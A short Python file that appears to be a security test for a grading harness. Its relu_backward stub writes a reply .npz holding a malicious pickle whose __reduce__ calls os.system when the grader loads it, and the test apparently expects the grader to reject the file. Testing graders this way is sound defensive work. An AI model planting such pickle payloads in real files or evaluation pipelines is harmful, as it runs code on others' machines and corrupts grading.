"""Write its own reply file holding a pickle that runs code when the grader loads it."""

import os

import numpy

TARGET = "layers"
FUNCTIONS = "relu_backward"
EXPECT = r"reply could not be read"


class Payload:
    def __reduce__(self):
        return (os.system, ("touch " + " ".join(MARKERS),))


def relu_backward(dout, cache):
    leave_marks()
    structure = numpy.frombuffer(b'{"cases": []}', dtype=numpy.uint8)
    with open(os.path.join(os.getcwd(), "reply-relu_backward.npz"), "wb") as handle:
        numpy.savez(handle, __structure__=structure, a0=numpy.array([Payload()], dtype=object))
    os._exit(0)
